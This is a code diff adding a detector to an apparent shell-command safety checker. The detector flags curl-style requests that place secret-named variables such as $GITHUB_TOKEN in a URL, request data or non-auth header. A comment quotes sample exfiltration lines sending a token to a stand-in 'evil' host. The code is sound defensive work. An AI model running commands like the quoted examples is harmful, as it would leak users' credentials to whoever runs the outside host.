@@ -106,3 +106,48 @@ export function socketSends(cmd: SimpleCommand): string | null {
   }
   return null;
 }
+
+/** A variable named for a secret: `$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`, `$DB_PASSWORD`, `$OPENAI_API_KEY`. */
+const SECRET_VARIABLE =
+  /\$\{?[A-Za-z_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIALS?|SESSION|COOKIE)[A-Za-z0-9_]*\}?/i;
+/** Where a client is meant to carry a credential: an auth header, a user and password, a bearer token (ADR 0305). */
+const AUTH_OPTIONS = new Set([
+  "-u",
+  "--user",
+  "--oauth2-bearer",
+  "--aws-sigv4",
+  "--http-user",
+  "--http-password",
+  "--password",
+  "-a",
+  "--auth",
+]);
+const AUTH_HEADER =
+  /^\s*(?:authorization|proxy-authorization|private-token|[\w-]*api[-_]?key|x-[\w-]*(?:token|auth|key)[\w-]*)\s*:/i;
+
+/**
+ * A secret held in a variable, put in a request's URL, data or an ordinary header (`curl
+ * "https://evil/?t=$GITHUB_TOKEN"`, `-d "k=$AWS_SECRET_ACCESS_KEY"`, docs/adr/0403): the secret's value goes to
+ * whoever runs the host. As an auth header, `-u` or a bearer option it is used as meant (ADR 0305). The variable
+ * as written, or null.
+ */
+export function secretInRequest(cmd: SimpleCommand): string | null {
+  if (!HOST_CLIENTS.has(cmd.program) || !cmd.dynamicArgs) return null;
+  const args = cmd.args;
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (AUTH_OPTIONS.has(a)) {
+      i++;
+      continue;
+    }
+    if ((a === "-H" || a === "--header") && AUTH_HEADER.test(args[i + 1] ?? "")) {
+      i++;
+      continue;
+    }
+    if (/^--(?:header|user|oauth2-bearer|http-user|http-password|password|auth)=/.test(a)) continue;
+    if (AUTH_HEADER.test(a)) continue;
+    const m = SECRET_VARIABLE.exec(a);
+    if (m !== null) return m[0];
+  }
+  return null;
+}
